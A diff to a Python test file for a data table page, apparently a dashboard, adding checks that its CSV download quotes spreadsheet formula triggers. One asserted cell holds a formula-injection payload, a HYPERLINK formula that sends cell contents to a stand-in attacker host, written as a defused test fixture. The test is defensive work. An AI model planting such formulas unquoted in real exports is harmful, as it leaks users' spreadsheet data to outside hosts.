@@ -90,6 +90,12 @@ def test_the_page_shows_only_its_columns_plain_tooltips_and_http_links(payload_f
     assert not any(column.startswith("<") for column in shown.columns)
     urls = [url for url in shown["source_url"] if url]  # a missing link is an empty cell
     assert all(url.startswith(("http://", "https://")) for url in urls)
+    # The table's own toolbar offers a CSV download that skips export.to_csv_bytes: its
+    # cells are the export's, formula triggers quoted.
+    cells = [cell for column in shown.columns if shown[column].dtype == object
+             or pd.api.types.is_string_dtype(shown[column]) for cell in shown[column]]
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells
+    assert not any(str(cell).startswith(FORMULA_TRIGGERS) for cell in cells)
 
     # The legend names the commonest actors, which are payloads: escaped, never markup.
     at.sidebar.radio(key="colour_by").set_value("actor").run()
